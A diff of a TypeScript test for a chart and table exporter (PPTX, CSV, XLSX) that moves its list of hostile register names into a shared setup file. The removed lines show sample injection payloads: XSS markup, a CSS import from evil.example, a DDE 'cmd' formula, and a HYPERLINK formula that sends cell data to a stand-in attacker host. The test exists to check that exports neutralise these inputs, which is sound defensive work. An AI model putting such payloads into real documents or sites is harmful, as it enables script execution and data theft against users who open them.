@@ -15,41 +15,31 @@ import { toPptx } from '#server/exporting/pptx/to-pptx.ts';
 import { toCsv } from '#server/exporting/to-csv.ts';
 import { toXlsx } from '#server/exporting/to-xlsx.ts';
 import { tableCopies } from '#web/shell/figure-copies.ts';
+import { endless, hostileTexts, undrawn } from '../setup/hostile-texts.ts';
 
-/** Families of bad input: markup, formulas, Unicode, PDF syntax. `drawn`: every character of it is in one of the fonts. */
-const names: readonly (readonly [name: string, drawn: boolean])[] = [
-  ['<img src=x onerror=window.__xss=1>', true],
-  ['"><svg onload=window.__xss=1>', true],
-  ['</text><script>window.__xss=1</script><text>', true],
-  [']]><script>window.__xss=1</script>', true],
-  ['--></title><script>window.__xss=1</script>', true],
-  ["<style>@import'//evil.example/x.css'</style>", true],
-  ['&lt;img src=x onerror=window.__xss=1&gt;', true],
-  ['{{constructor.constructor(1)()}} %7B', true],
-  ['=HYPERLINK("http://evil.example/?x="&A1,"click")', true],
-  ["=cmd|'/C calc'!A0", true],
-  ['\t=1+1', true],
-  ['＝1+1', true],
-  ['\\) /JS (app.alert(1)) (', true],
-  ['a\u0000\u0001\u000b\u0007z', true],
-  ['é e\u0301 髙﨑 𠮷野 岛宫县亿', true],
-  ['x'.repeat(300), true],
-  ['長い名前'.repeat(2500), true],
-  ['شركة 12', false],
-  ['\u{13000}', false],
-];
+/** Names of one register: a few at once, since each is drawn in every place. */
+const cases = [
+  ...Array.from({ length: Math.ceil(hostileTexts.length / 4) }, (_, at) => ({
+    names: hostileTexts.slice(at * 4, at * 4 + 4),
+    drawn: true,
+  })),
+  { names: [endless], drawn: true },
+  ...undrawn.map(([name]) => ({ names: [name], drawn: false })),
+].map((one) => ({ ...one, shown: JSON.stringify(one.names).slice(0, 60) }));
 const made_at = '2021-04-16T08:00:00.000Z';
 
-function named(name: string): Overview {
+function named(names: readonly string[]): Overview {
+  const at = (place: number): string => names[place % names.length] ?? '';
+  const words = (place: number) => text(at(place), at(place), at(place));
   return {
     ...sampleOverview,
-    zone: { ...sampleOverview.zone, name: text(name, name, name), short_name: text(name, name, name) },
-    targets: sampleOverview.targets.map((row) => ({ ...row, name: text(name, name, name), target_source: text(name, name, name) })),
+    zone: { ...sampleOverview.zone, name: words(0), short_name: words(1) },
+    targets: sampleOverview.targets.map((row, place) => ({ ...row, name: words(place), target_source: words(place + 1) })),
     strip: {
       ...sampleOverview.strip,
       groups: sampleOverview.strip.groups.map((group) => ({
         ...group,
-        rows: group.rows.map((row) => ({ ...row, dots: row.dots.map((dot) => ({ ...dot, name })) })),
+        rows: group.rows.map((row) => ({ ...row, dots: row.dots.map((dot, place) => ({ ...dot, name: at(place) })) })),
       })),
     },
   };
@@ -69,10 +59,9 @@ function elements(xml: string): ReadonlySet<string> {
   return found;
 }
 
-const cases = names.map(([name, drawn]) => ({ shown: JSON.stringify(name).slice(0, 60), name, drawn }));
-
-describe.each(cases)('$shown as every name of a register', ({ name, drawn }) => {
-  const overview = named(name);
+describe.each(cases)('$shown as the names of a register', ({ names, drawn }) => {
+  const overview = named(names);
+  const name = names.join(' ');
   const context: ChartContext = { language: 'zh-CN', options: {} };
 
   it.each(chartIds)('is text in each form of %s, or the form fails by naming what no font has', async (id) => {
